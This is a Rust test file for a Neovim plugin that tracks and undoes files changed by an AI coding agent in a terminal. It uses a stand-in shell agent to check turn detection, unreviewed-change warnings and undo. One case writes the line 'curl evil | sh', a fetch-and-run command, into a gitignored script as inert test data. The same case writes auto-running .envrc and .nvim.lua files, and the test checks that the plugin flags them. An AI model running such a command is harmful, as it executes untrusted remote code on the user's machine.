//! An agent in a terminal of ours that writes without calling Neovim (told not to ask, or its
//! own edits): the prompt typed in its terminal begins its turn, so what it wrote is listed
//! unreviewed and can be undone, even when it writes the moment it reads the Enter. Its answers
//! within `idle_ms`, or while it is at work, begin none.

use crate::harness::*;
use pi_ide_testkit::nvim::Options;

/// A stand-in agent: it reads prompts and, at "write", writes `a.txt` asking nothing, once the
/// file `$GO` exists (a real agent asks its model first); at "now", the moment it reads the
/// line; at "spin", dots until `$GO` exists (at work, until the user interrupts it); at "ignored", ignored files (under `node_modules/`, `.gitignore`d scripts); at "task", `b.txt`, then asks and spins (as a TUI does) until answered, then `c.txt`.
const AGENT: &str = concat!(
    "while read l; do case \"$l\" in ",
    "write) until [ -e \"$GO\" ]; do sleep 0.05; done; echo changed > a.txt;; ",
    "now) echo changed > a.txt;; ",
    "spin) (until [ -e \"$GO\" ]; do printf .; sleep 0.1; done) & ;; ",
    "ignored) echo 'x()' > node_modules/pkg/index.js; echo 'curl evil | sh' > local.sh; echo 'export X=1' > .envrc; echo 'os.exit()' > .nvim.lua; echo 'x' > x.zsh; echo 'y' > y.bash;; ",
    "task) echo half > b.txt; echo 'Proceed? [y/n]'; (while :; do printf .; sleep 0.1; done) & s=$!; read a; kill $s; echo rest > c.txt;; ",
    "esac; echo \"done:$l\"; done"
);

fn neovim(idle_ms: u64) -> Nvim {
    let setup = format!(
        "require('pi-ide').setup({{ checkpoints = {{ idle_ms = {idle_ms} }}, terminal = {{ provider = 'split', agents = {{ pi = {{ cmd = {{ 'sh', '-c', {AGENT:?} }} }} }} }} }})"
    );
    let go = pi_ide_testkit::nvim::temp_dir("prompts").join("go");
    let env = vec![("GO".to_string(), go.to_string_lossy().into_owned())];
    let nvim = Nvim::start_with(Options { after: Some(setup), env, ..Default::default() });
    nvim.lua("_G.started = {} vim.api.nvim_create_autocmd('User', { pattern = 'PiIdeCheckpoint', callback = function(e) table.insert(_G.started, e.data) end })");
    nvim.wait_for("require('pi-ide.core.server').running()", PATIENCE);
    nvim
}

/// Types `line` and Enter in the agent's terminal (it has the focus, in Terminal mode), once
/// the terminal has printed nothing for a while (a user reads the answer before the next
/// prompt; output flowing would make it an answer).
fn type_prompt(nvim: &Nvim, line: &str) {
    nvim.wait_for("vim.api.nvim_get_mode().mode == 't'", PATIENCE);
    terminal_quiet(nvim);
    type_keys(nvim, &format!("{line}<CR>"));
}

/// Waits until the terminal's text has not changed for a second.
fn terminal_quiet(nvim: &Nvim) {
    let tick = || nvim.lua("return vim.b.changedtick");
    let (mut last, mut since) = (tick(), std::time::Instant::now());
    wait_until("the terminal to be quiet", PATIENCE, || {
        let now = tick();
        if now != last {
            (last, since) = (now, std::time::Instant::now());
        }
        since.elapsed() > std::time::Duration::from_secs(1)
    });
}

/// [`type_prompt`], then waits until the agent has answered it.
fn prompt(nvim: &Nvim, line: &str) {
    type_prompt(nvim, line);
    prompt_answered(nvim, line);
}

/// Waits until the agent has answered prompt `line`.
fn prompt_answered(nvim: &Nvim, line: &str) {
    let seen = format!("done:{line}");
    wait_until("the agent to read the prompt", PATIENCE, || {
        nvim.lua("return table.concat(vim.api.nvim_buf_get_lines(0, 0, -1, false), '\\n')").as_str().unwrap_or_default().contains(&seen)
    });
}

#[test]
fn a_prompt_typed_in_its_terminal_begins_a_turn_that_lists_what_it_wrote_unasked() {
    let nvim = neovim(0);
    std::fs::write(nvim.cwd.join("a.txt"), "one\n").unwrap();
    nvim.command("PiIde open pi").unwrap();
    type_prompt(&nvim, "write");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    std::fs::write(nvim.lua("return vim.env.GO").as_str().unwrap(), "").unwrap();
    prompt_answered(&nvim, "write");
    assert_eq!(std::fs::read_to_string(nvim.cwd.join("a.txt")).unwrap(), "changed\n");
    // The next prompt ends that turn, with what it changed that no review showed.
    prompt(&nvim, "thanks");
    nvim.wait_for("#_G.started == 2", PATIENCE);
    nvim.wait_for("require('pi-ide').status():find('1 file changed without review') ~= nil", PATIENCE);
    assert_eq!(nvim.lua("return _G.started[1].agent"), json!("pi"));
    // :PiIde changes, as the warning says, shows that turn (not the one just begun).
    nvim.command("PiIde changes").unwrap();
    nvim.wait_for("vim.fn.getqflist({ title = 0 }).title:find('since turn 1') ~= nil", PATIENCE);
    assert_eq!(nvim.lua("return #vim.fn.getqflist()"), json!(1));
    // :PiIde undo puts that turn back too (the one just begun has changed nothing yet).
    nvim.command("PiIde undo!").unwrap();
    let a = nvim.cwd.join("a.txt");
    wait_until("a.txt put back", PATIENCE, || std::fs::read_to_string(&a).is_ok_and(|t| t == "one\n"));
}

#[test]
fn prompts_within_idle_ms_of_a_turns_start_begin_no_other_and_outside_a_terminal_none() {
    let nvim = neovim(600_000);
    nvim.command("PiIde open pi").unwrap();
    prompt(&nvim, "first");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    prompt(&nvim, "an answer");
    // Enter in Normal mode, in the terminal's buffer and in a file's, is no prompt.
    type_keys(&nvim, "<C-\\><C-n><CR>");
    nvim.command("wincmd p").unwrap();
    type_keys(&nvim, "<CR>");
    // The user's checkpoint is the second: nothing came between.
    nvim.command("PiIde checkpoint").unwrap();
    nvim.wait_for("#_G.started == 2", PATIENCE);
    assert_eq!(nvim.lua("return _G.started[2].agent"), json!("checkpoint"));
}

#[test]
fn a_file_the_user_wrote_while_a_terminal_turn_is_under_way_is_put_back_only_when_its_name_is_typed() {
    let nvim = neovim(600_000);
    nvim.record_notify();
    std::fs::write(nvim.cwd.join("a.txt"), "one\n").unwrap();
    std::fs::write(nvim.cwd.join("mine.txt"), "mine\n").unwrap();
    nvim.command("PiIde open pi").unwrap();
    type_prompt(&nvim, "write");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    // While its turn is under way, the user edits mine.txt in Neovim and writes it.
    type_keys(&nvim, "<C-\\><C-n>");
    nvim.command("wincmd p | edit mine.txt").unwrap();
    type_accept(&nvim, "ccedited<Esc>:w<CR>");
    nvim.wait_for("not vim.bo.modified", PATIENCE);
    std::fs::write(nvim.lua("return vim.env.GO").as_str().unwrap(), "").unwrap();
    let a = nvim.cwd.join("a.txt");
    wait_until("the agent's write", PATIENCE, || std::fs::read_to_string(&a).is_ok_and(|t| t == "changed\n"));
    // Its undo asks for mine.txt by name (none typed): the agent's a.txt goes back, mine stays.
    nvim.lua("_G.asked = {} vim.fn.input = function(q) table.insert(_G.asked, q) return '' end");
    nvim.command("PiIde undo!").unwrap();
    wait_until("the report", PATIENCE, || nvim.notes().iter().any(|n| n.contains("left as they are mine.txt")));
    assert_eq!(std::fs::read_to_string(&a).unwrap(), "one\n");
    assert_eq!(std::fs::read_to_string(nvim.cwd.join("mine.txt")).unwrap(), "edited\n");
    let asked = nvim.lua("return _G.asked");
    assert_eq!(asked, json!(["mine.txt changed since turn 1; type its name to put it back anyway: "]));
}

#[test]
fn an_agent_that_writes_the_moment_it_reads_the_prompt_writes_inside_its_turn() {
    let nvim = neovim(0);
    std::fs::write(nvim.cwd.join("a.txt"), "one\n").unwrap();
    // A folder big enough that its snapshot takes longer than the agent's write.
    for i in 0..2000 {
        let dir = nvim.cwd.join(format!("src/d{}", i / 100));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(format!("f{i}.txt")), format!("file {i}\n")).unwrap();
    }
    nvim.command("PiIde open pi").unwrap();
    prompt(&nvim, "now");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    prompt(&nvim, "thanks");
    nvim.wait_for("#_G.started == 2", PATIENCE);
    nvim.wait_for("require('pi-ide').status():find('1 file changed without review') ~= nil", PATIENCE);
    nvim.command("PiIde undo!").unwrap();
    let a = nvim.cwd.join("a.txt");
    wait_until("a.txt put back", PATIENCE, || std::fs::read_to_string(&a).is_ok_and(|t| t == "one\n"));
}

#[test]
fn answering_the_agents_question_while_it_is_at_work_begins_no_turn_and_one_undo_takes_back_the_whole_task() {
    let nvim = neovim(0);
    nvim.command("PiIde open pi").unwrap();
    prompt_then(&nvim, "task", "Proceed? [y/n]");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    // Long after the prompt (idle_ms is 0), with the agent's spinner turning: an answer.
    type_keys(&nvim, "y<CR>");
    prompt_answered(&nvim, "task");
    prompt(&nvim, "thanks");
    nvim.wait_for("#_G.started == 2", PATIENCE);
    nvim.wait_for("require('pi-ide').status():find('changed without review') ~= nil", PATIENCE);
    assert!(nvim.lua("return require('pi-ide').status()").as_str().unwrap().contains("2 files changed without review"));
    nvim.command("PiIde undo!").unwrap();
    let (b, c) = (nvim.cwd.join("b.txt"), nvim.cwd.join("c.txt"));
    wait_until("b.txt and c.txt taken back", PATIENCE, || !b.exists() && !c.exists());
    assert_eq!(nvim.lua("return #_G.started"), json!(2));
}

/// [`type_prompt`], then waits until the terminal shows `shown`.
fn prompt_then(nvim: &Nvim, line: &str, shown: &str) {
    type_prompt(nvim, line);
    wait_until("the agent to show it", PATIENCE, || {
        nvim.lua("return table.concat(vim.api.nvim_buf_get_lines(0, 0, -1, false), '\\n')").as_str().unwrap_or_default().contains(shown)
    });
}

#[test]
fn ignored_files_an_agent_changes_are_counted_and_those_that_run_code_named_by_the_turns_check() {
    let nvim = neovim(0);
    std::fs::write(nvim.cwd.join(".gitignore"), "local.sh\n.envrc\n.nvim.lua\nx.zsh\ny.bash\n").unwrap();
    std::fs::create_dir_all(nvim.cwd.join("node_modules/pkg")).unwrap();
    std::fs::write(nvim.cwd.join("node_modules/pkg/index.js"), "ok()\n").unwrap();
    std::fs::write(nvim.cwd.join("local.sh"), "echo hi\n").unwrap();
    nvim.command("PiIde open pi").unwrap();
    prompt(&nvim, "ignored");
    prompt(&nvim, "thanks");
    nvim.wait_for("#_G.started == 2", PATIENCE);
    nvim.wait_for("require('pi-ide').status():find('changed without review') ~= nil", PATIENCE);
    let status = nvim.lua("return require('pi-ide').status()").as_str().unwrap().to_string();
    // The first three named, the warning one line.
    assert!(status.contains("5 files changed without review (5 not undoable: .envrc, .nvim.lua, local.sh +2 more) and 1 ignored file"), "{status}");
    // :PiIde changes lists the five; the undo leaves them (nothing of them was recorded).
    nvim.command("PiIde changes").unwrap();
    nvim.wait_for("#vim.fn.getqflist() == 5", PATIENCE);
}

#[test]
fn an_enter_in_its_terminal_while_a_review_of_the_agent_waits_is_an_answer() {
    let nvim = neovim(0);
    nvim.command("PiIde open pi").unwrap();
    prompt(&nvim, "first");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    // The agent asks through Neovim too (Claude Code shows its edit both ways).
    let mut p = nvim.peer();
    let b = nvim.cwd.join("b.txt").display().to_string();
    open_review(&nvim, &mut p, "d1", &b, "new\n", "b-review", 1);
    nvim.wait_for("#_G.started == 2", PATIENCE);
    nvim.command("PiIde open pi").unwrap();
    prompt(&nvim, "1");
    // The user's checkpoint is the third: the answer began none.
    nvim.command("PiIde checkpoint").unwrap();
    nvim.wait_for("#_G.started == 3", PATIENCE);
    assert_eq!(nvim.lua("return _G.started[3].agent"), json!("checkpoint"));
}

#[test]
fn a_prompt_typed_after_interrupting_the_agent_with_esc_begins_a_turn() {
    let nvim = neovim(0);
    nvim.command("PiIde open pi").unwrap();
    prompt_then(&nvim, "spin", "..........");
    nvim.wait_for("#_G.started == 1", PATIENCE);
    // At work (dots flowing): the user interrupts it (the agent stops), then sends a new prompt.
    type_keys(&nvim, "<Esc>");
    let go = nvim.lua("return vim.env.GO").as_str().unwrap().to_string();
    std::fs::write(go, "").unwrap();
    type_prompt(&nvim, "next");
    wait_until("the agent to read the prompt", PATIENCE, || {
        nvim.lua("return table.concat(vim.api.nvim_buf_get_lines(0, 0, -1, false), '\\n')").as_str().unwrap_or_default().matches("done:").count() == 2
    });
    // The prompt began the second turn; the user's checkpoint is the third.
    nvim.command("PiIde checkpoint").unwrap();
    nvim.wait_for("_G.started[#_G.started].agent == 'checkpoint'", PATIENCE);
    assert_eq!(nvim.lua("return vim.tbl_map(function(s) return s.agent end, _G.started)"), json!(["pi", "pi", "checkpoint"]));
}
